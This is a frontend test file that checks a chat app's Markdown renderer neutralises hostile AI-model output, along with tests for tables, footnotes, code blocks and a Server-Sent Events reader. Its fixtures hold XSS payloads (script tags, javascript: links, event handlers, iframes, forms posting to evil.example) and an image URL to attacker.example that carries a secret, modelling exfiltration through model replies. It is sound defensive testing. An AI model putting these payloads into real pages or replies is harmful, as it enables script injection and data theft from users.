import { fireEvent, render, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { beforeAll, describe, expect, it } from 'vitest';
import { readEvents } from '#client/lib/event-stream.ts';
import MarkdownContent from '#client/features/chat/markdown-content.tsx';
import { i18n } from '#client/lib/i18n.ts';

beforeAll(async () => {
  await i18n.loadNamespaces(['messages']);
});

const HOSTILE = [
  '# Title',
  '',
  '<script>window.__pwned = true</script>',
  '',
  '[click me](javascript:alert(1)) and [mail](mailto:a@example.com) and [web](https://example.com/x)',
  '',
  '<img src="x" onerror="window.__pwned = true">',
  '',
  '![data image](data:image/png;base64,AAAA) ![remote](https://example.com/a.png)',
  '',
  '<a href="https://example.com" onclick="alert(1)">raw html link</a>',
  '',
  '| a | b |',
  '|---|---|',
  '| 1 | 2 |',
  '',
  '- [x] done',
  '- [ ] open',
  '',
  'Footnote[^1].',
  '',
  '[^1]: note',
].join('\n');

describe('assistant reply rendering (spec 01-core §9 link and image safety)', () => {
  it('renders hostile model output inert', () => {
    const { container } = render(<MarkdownContent text={HOSTILE} />);

    expect(container.querySelector('script')).toBeNull();
    expect(container.innerHTML).not.toMatch(/onerror|onclick/i);
    expect(container.innerHTML).not.toContain('javascript:');
    const links = [...container.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(links).toContain('mailto:a@example.com');
    expect(links).toContain('https://example.com/x');
    expect(
      links.every((href) => href !== null && /^(https?:|mailto:|#user-content-)/.test(href)),
    ).toBe(true);
    const clickMe = [...container.querySelectorAll('a')].find((a) => a.textContent === 'click me');
    expect(clickMe).toBeUndefined();
    // Remote images wait for the user (issue #15 item 8); shown, only the safe addresses remain.
    expect(container.querySelectorAll('img')).toHaveLength(0);
    fireEvent.click(screen.getByRole('button', { name: 'Bild anzeigen' }));
    const images = [...container.querySelectorAll('img')].map((img) => img.getAttribute('src'));
    expect(images).toEqual(['https://example.com/a.png']);
    // Raw HTML is never turned into elements: its tags are dropped.
    const rawLink = [...container.querySelectorAll('a')].find((a) =>
      a.textContent?.includes('raw html link'),
    );
    expect(rawLink).toBeUndefined();
  });

  it('renders GFM tables and task lists, with ids prefixed user-content-', () => {
    const { container } = render(<MarkdownContent text={HOSTILE} />);

    expect(container.querySelector('table td')?.textContent).toBe('1');
    const boxes = [...container.querySelectorAll<HTMLInputElement>('input[type=checkbox]')];
    expect(boxes.map((box) => box.checked)).toEqual([true, false]);
    const ids = [...container.querySelectorAll('[id]')].map((element) => element.id);
    expect(ids.length).toBeGreaterThan(0);
    expect(ids.every((id) => id.startsWith('user-content-'))).toBe(true);
  });

  it('external links open in a new tab without the opener', () => {
    const { container } = render(<MarkdownContent text="[web](https://example.com/x)" />);
    const link = container.querySelector('a');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toContain('noopener');
  });
});

const MORE_HOSTILE = [
  '[upper](JaVaScRiPt:alert(1)) [spaced]( javascript:alert(1)) [entity](javascript&#58;alert(1))',
  '[vb](vbscript:msgbox(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [file](file:///etc/passwd)',
  '[relative](/settings) [protocol-relative](//evil.example/x)',
  '<javascript:alert(1)> <https://auto.example/link>',
  '[irc](irc://irc.example.org/chat) [xmpp](xmpp:anna@example.org)',
  '<iframe src="https://evil.example"></iframe><svg onload="alert(1)"><circle/></svg>',
  '<style>body{display:none}</style><form action="https://evil.example"><input name=x></form>',
  '![js image](javascript:alert(1)) ![http image](http://example.com/b.png)',
  '```html\n<script>alert(1)</script>\n```',
].join('\n\n');

describe('remote images in replies (issue #15 item 8)', () => {
  const reply = (secret: string) =>
    `Hier: ![Diagramm](https://attacker.example/?q=${secret}) und ![](https://cdn.example/b.png) ` +
    `und ![Logo](${window.location.origin}/logo.svg)`;

  it("loads no remote image until the user asks; one click shows that reply's images", async () => {
    const user = userEvent.setup();
    render(
      <>
        <section aria-label="erste">
          <MarkdownContent text={reply('geheim-1')} />
        </section>
        <section aria-label="zweite">
          <MarkdownContent text={reply('geheim-2')} />
        </section>
      </>,
    );
    const firstReply = screen.getByRole('region', { name: 'erste' });
    const secondReply = screen.getByRole('region', { name: 'zweite' });
    const first = within(firstReply);
    const second = within(secondReply);
    // (An image without alt text is presentational: no img role to find it by.)
    const sources = (reply: HTMLElement) =>
      [...reply.querySelectorAll('img')].map((img) => img.getAttribute('src'));

    // The same-origin image loads as before; the remote ones are placeholders naming their host.
    expect(sources(firstReply)).toEqual([`${window.location.origin}/logo.svg`]);
    expect(first.getByText(/Diagramm · Externes Bild von attacker\.example/)).toBeTruthy();
    expect(first.getByText('Externes Bild von cdn.example')).toBeTruthy();

    await user.click(first.getAllByRole('button', { name: 'Bild anzeigen' })[0]!);
    expect(sources(firstReply)).toEqual([
      'https://attacker.example/?q=geheim-1',
      'https://cdn.example/b.png',
      `${window.location.origin}/logo.svg`,
    ]);
    expect(first.queryByRole('button', { name: 'Bild anzeigen' })).toBeNull();
    // The other reply still waits.
    expect(sources(secondReply)).toEqual([`${window.location.origin}/logo.svg`]);
    expect(second.getAllByRole('button', { name: 'Bild anzeigen' })).toHaveLength(2);
  });

  it('says it in the interface language', async () => {
    await i18n.changeLanguage('en');
    try {
      render(<MarkdownContent text="![](https://img.example/x.png)" />);
      expect(screen.getByText('External image from img.example')).toBeTruthy();
      expect(screen.getByRole('button', { name: 'Show image' })).toBeTruthy();
    } finally {
      await i18n.changeLanguage('de');
    }
  });
});

describe('more hostile model output (spec 01-core §9)', () => {
  it('allows only the safe link protocols and never executable markup', () => {
    const { container } = render(<MarkdownContent text={MORE_HOSTILE} />);
    const hrefs = [...container.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(hrefs).toEqual([
      'https://auto.example/link',
      'irc://irc.example.org/chat',
      'xmpp:anna@example.org',
    ]);
    // (svg.lucide: the copy button's icon)
    for (const tag of ['script', 'iframe', 'svg:not(.lucide)', 'style', 'form', 'input']) {
      expect(container.querySelector(tag), tag).toBeNull();
    }
    // No attribute anywhere carries a script address or an event handler (as text it is harmless).
    const attributes = [...container.querySelectorAll('*')].flatMap((element) =>
      [...element.attributes].map((attribute) => `${attribute.name}=${attribute.value}`),
    );
    expect(attributes.filter((text) => /javascript:|vbscript:|data:|^on/i.test(text))).toEqual([]);
    expect(container.querySelectorAll('img')).toHaveLength(0);
    fireEvent.click(screen.getByRole('button', { name: 'Bild anzeigen' }));
    expect([...container.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
      'http://example.com/b.png',
    ]);
    // The words of a blocked link stay readable.
    expect(container.textContent).toContain('upper');
    // Markup inside a code block is shown as text.
    expect(container.querySelector('pre code')?.textContent).toBe('<script>alert(1)</script>');
  });

  it('keeps footnote jumps inside the reply, without a new tab', () => {
    const { container } = render(<MarkdownContent text={'Satz[^a].\n\n[^a]: Quelle'} />);
    const jump = container.querySelector('a[href^="#"]');
    expect(jump?.getAttribute('href')).toBe('#user-content-fn-a');
    expect(jump?.getAttribute('target')).toBeNull();
    expect(container.querySelector('#user-content-fn-a')?.textContent).toContain('Quelle');
    // …and back from the note to the sentence.
    const back = container.querySelector('#user-content-fn-a a[href^="#"]');
    expect(back?.getAttribute('href')).toBe('#user-content-fnref-a');
    expect(container.querySelector('#user-content-fnref-a')).not.toBeNull();
  });
});

describe('the rest of GitHub Markdown (decision 282)', () => {
  it('renders references, strikethrough, numbered lists, loose and tight items, breaks and alignment', () => {
    const { container } = render(
      <MarkdownContent
        text={[
          'See [the docs][docs] and ~~old~~ text.  ',
          'Second line.',
          '',
          '3. three',
          '4. four',
          '',
          '- tight',
          '- list',
          '',
          '* loose',
          '',
          '* list',
          '',
          '| left | right |',
          '|:-----|------:|',
          '| a    |     b |',
          '',
          '---',
          '',
          '[docs]: https://example.com/docs "Docs"',
        ].join('\n')}
      />,
    );
    const docs = screen.getByRole('link', { name: 'the docs' });
    expect(docs.getAttribute('href')).toBe('https://example.com/docs');
    expect(docs.getAttribute('title')).toBe('Docs');
    expect(container.querySelector('del')?.textContent).toBe('old');
    expect(container.querySelector('p br')).not.toBeNull();
    expect(container.querySelector('ol')?.getAttribute('start')).toBe('3');
    const [tight, loose] = [...container.querySelectorAll('ul')];
    expect(tight?.querySelector('li p')).toBeNull();
    expect(loose?.querySelector('li p')?.textContent).toBe('loose');
    const right = container.querySelector('td:last-child') as HTMLElement;
    expect(right.style.textAlign).toBe('right');
    expect(container.querySelector('hr')).not.toBeNull();
    // A definition is no text of its own.
    expect(container.textContent).not.toContain('[docs]');
  });

  it('names the footnotes and numbers them in the order they are referenced', () => {
    render(
      <MarkdownContent text={'B[^b] and A[^a] and B again[^b].\n\n[^a]: Note A\n\n[^b]: Note B'} />,
    );
    const notes = screen.getByRole('region', { name: 'Fußnoten' });
    expect([...notes.querySelectorAll('li')].map((item) => item.id)).toEqual([
      'user-content-fn-b',
      'user-content-fn-a',
    ]);
    const references = screen.getAllByRole('link', { name: /^[12]$/ });
    expect(references.map((link) => link.textContent)).toEqual(['1', '2', '1']);
    expect(references.map((link) => link.id)).toEqual([
      'user-content-fnref-b',
      'user-content-fnref-a',
      'user-content-fnref-b-2',
    ]);
    expect(within(notes).getAllByRole('link', { name: /Zurück zur Stelle/ })).toHaveLength(2);
  });
});

describe('code blocks (spec 01-core §2)', () => {
  const CODE = 'const answer: number = 42;\nconsole.log("hi");';

  it('highlights on demand and copies the code', async () => {
    const user = userEvent.setup();
    const { container } = render(<MarkdownContent text={'```ts\n' + CODE + '\n```'} />);
    // Plain code first, the highlighted version once the grammar chunk has loaded.
    expect(container.querySelector('pre code')?.textContent).toBe(CODE);
    await waitFor(() => expect(container.querySelector('pre .hljs-keyword')).not.toBeNull());
    expect(container.querySelector('pre .hljs-keyword')?.textContent).toBe('const');
    expect(container.querySelector('pre code')?.textContent).toBe(CODE);
    expect(container.textContent).toContain('ts');

    await user.click(screen.getByRole('button', { name: 'Code kopieren' }));
    expect(await navigator.clipboard.readText()).toBe(CODE);
    expect(screen.getByRole('button', { name: 'Code kopiert' })).toBeTruthy();
  });

  it('shows code of an unknown or missing language as plain text with a copy button', async () => {
    const { container } = render(
      <MarkdownContent
        text={'```brainfuck\n+++.\n```\n\n```\nplain\n```\n\nInline `code` here.'}
      />,
    );
    const blocks = container.querySelectorAll('pre code');
    expect([...blocks].map((block) => block.textContent)).toEqual(['+++.', 'plain']);
    expect(screen.getAllByRole('button', { name: 'Code kopieren' })).toHaveLength(2);
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(container.querySelector('pre span')).toBeNull();
    // Inline code is no block: no copy button of its own.
    expect(container.querySelector('p code')?.textContent).toBe('code');
  });
});

describe('wide content and the keyboard', () => {
  it('code blocks and tables that scroll sideways can be focused, each with a name', async () => {
    const user = userEvent.setup();
    const wide = 'x'.repeat(300);
    render(
      <MarkdownContent
        text={`| a | b |\n|---|---|\n| ${wide} | 2 |\n\n\`\`\`python\nprint("${wide}")\n\`\`\``}
      />,
    );
    const table = screen.getByRole('region', { name: 'Tabelle' });
    expect(table.querySelector('table')).not.toBeNull();
    await user.tab();
    expect(document.activeElement).toBe(table);
    await user.tab();
    expect(document.activeElement).toBe(screen.getByRole('button', { name: 'Code kopieren' }));
    await user.tab();
    expect(document.activeElement?.tagName).toBe('PRE');
    expect(document.activeElement?.getAttribute('aria-label')).toBe('Code: python');
  });
});

describe('Server-Sent Events reader', () => {
  it('splits events across chunk borders, skips comments and keeps event ids', async () => {
    const chunks = [
      'retry: 2000\n\n: ping\n\nid: 1\nevent: start\ndata: {"a":1}\n',
      '\nid: 2\nevent: delta\ndata: {"text":"Hal',
      'lo"}\n\nevent: done\ndata: {}\n\n',
    ];
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        for (const chunk of chunks) controller.enqueue(new TextEncoder().encode(chunk));
        controller.close();
      },
    });
    const events = [];
    for await (const event of readEvents(body)) events.push(event);
    expect(events).toEqual([
      { event: 'start', data: '{"a":1}', id: '1' },
      { event: 'delta', data: '{"text":"Hallo"}', id: '2' },
      { event: 'done', data: '{}' },
    ]);
  });
});
